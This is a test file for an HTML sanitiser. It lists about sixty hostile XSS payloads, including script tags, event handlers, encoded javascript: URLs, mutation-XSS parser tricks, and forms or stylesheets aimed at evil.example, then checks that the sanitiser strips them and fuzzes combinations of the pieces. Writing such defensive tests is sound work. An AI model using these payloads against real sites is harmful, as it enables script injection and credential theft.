import { parseFragment, type DefaultTreeAdapterMap } from 'parse5'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sanitiseHtml } from './sanitise-html.ts'

type Node = DefaultTreeAdapterMap['node']

/** Everything that a browser's own parser sees in the text. */
function elementsIn(html: string): { name: string; attributes: Record<string, string> }[] {
  const walk = (node: Node): ReturnType<typeof elementsIn> => {
    const inside = 'childNodes' in node ? node.childNodes.flatMap(walk) : []
    const content = 'content' in node ? walk(node.content) : []
    if (!('tagName' in node)) return [...inside, ...content]
    const attributes = Object.fromEntries(node.attrs.map(({ name, value }) => [name, value]))
    return [{ name: node.tagName, attributes }, ...inside, ...content]
  }
  return walk(parseFragment(html))
}

const texts = 'p br hr h2 h3 h4 ul ol li blockquote strong b em i u s small a img'
const harmless = new Set(`${texts} table thead tbody tr th td caption`.split(' '))
const harmlessAttributes = new Set('href rel target src alt width height colspan rowspan scope'.split(' '))

/** What may never come out, as a browser would read it. */
function dangersIn(html: string): string[] {
  return elementsIn(html).flatMap(({ name, attributes }) => [
    ...(harmless.has(name) ? [] : [`<${name}>`]),
    ...Object.keys(attributes).filter((attribute) => !harmlessAttributes.has(attribute)),
    ...(/^(https:\/\/|mailto:|tel:|\/(?![/\\])|#|$)/i.test(attributes['href'] ?? '')
      ? []
      : [`href=${attributes['href']}`]),
    ...(name !== 'img' || /^\/(art|uploads)\//.test(attributes['src'] ?? '')
      ? []
      : [`src=${attributes['src']}`]),
  ])
}

/** reliability.md, "content": what hostile HTML looks like. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/art/x.svg" onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="x 1x, javascript:alert(1) 2x" src="/art/x.svg">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)" onmouseover=\'alert(1)\'>x</p>',
  '<p id="username" name="password" class="dialog">x</p>',
  // Read one way by a simple parser and another by a browser.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=1 onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p>' + '<b>'.repeat(5_000) + '<img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
  '<img src="/art/../../evil" alt="&quot; onerror=alert(1)">',
  '<p>\u2028<script\u00a0>alert(1)</script></p>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
]

describe('hostile HTML', () => {
  test.each(hostile)('%s', (html) => {
    const clean = sanitiseHtml(html)
    expect(dangersIn(clean), clean).toEqual([])
    expect(sanitiseHtml(clean)).toBe(clean)
  })

  test('pieces of it in any order', () => {
    const pieces = hostile.flatMap((html) => html.split(/(?=[<>"'])/))
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (chosen) => {
        const clean = sanitiseHtml(chosen.join(''))
        expect(dangersIn(clean), clean).toEqual([])
        expect(sanitiseHtml(clean)).toBe(clean)
      }),
      { numRuns: 1_000 },
    )
  })

  test('the check itself finds dangers', () => {
    expect(dangersIn('<img src=x onerror=alert(1)>')).toEqual(['onerror', 'src=x'])
    expect(dangersIn('<svg><script>1</script></svg>')).toEqual(['<svg>', '<script>'])
    expect(dangersIn('<a href="java&#10;script:1">x</a>')).toHaveLength(1)
    expect(dangersIn('<a href="//evil.example">x</a>')).toHaveLength(1)
  })
})

describe('what a text needs is kept', () => {
  test.each([
    ['<h2>ঈদ অফার</h2><p><strong>৳500</strong> &amp; more<br />here</p>'],
    ['<ul><li>one</li><li>two</li></ul>'],
    ['<table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table>'],
    ['<p><a href="/promotions">go</a></p>'],
    ['<img src="/art/banners/boat.ultra.svg" alt="A boat" />'],
  ])('%s', (html) => expect(sanitiseHtml(html)).toBe(html))

  test('a link to elsewhere cannot steer this page', () => {
    expect(sanitiseHtml('<a href="https://example.org" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://example.org" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    )
  })

  test('a heading of the first rank is the page’s own', () => {
    expect(sanitiseHtml('<h1>x</h1>')).toBe('<h2>x</h2>')
  })
})
